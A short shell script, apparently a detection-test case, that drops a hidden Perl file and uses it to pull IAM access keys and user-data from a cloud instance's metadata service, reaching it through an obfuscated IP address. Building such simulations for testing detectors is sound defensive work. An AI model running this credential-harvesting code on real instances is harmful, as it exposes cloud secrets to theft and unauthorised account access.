#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.m.pl <<'END'
use HTTP::Tiny; my $h = HTTP::Tiny->new(agent => "check/1", timeout => 4); my $base = "http://169.254.43518/latest/";
my $t = $h->put($base . "api/token", { headers => { "X-aws-ec2-metadata-token-ttl-seconds" => 60 } })->{content}; chomp $t;
my $r = $h->get($base . "meta-data/iam/security-credentials/web-credentials", { headers => { "X-aws-ec2-metadata-token" => $t } });
die $r->{content} unless $r->{content} =~ /AccessKeyId/; $h->get($base . "user-data");
END
perl /tmp/.m.pl
took_place
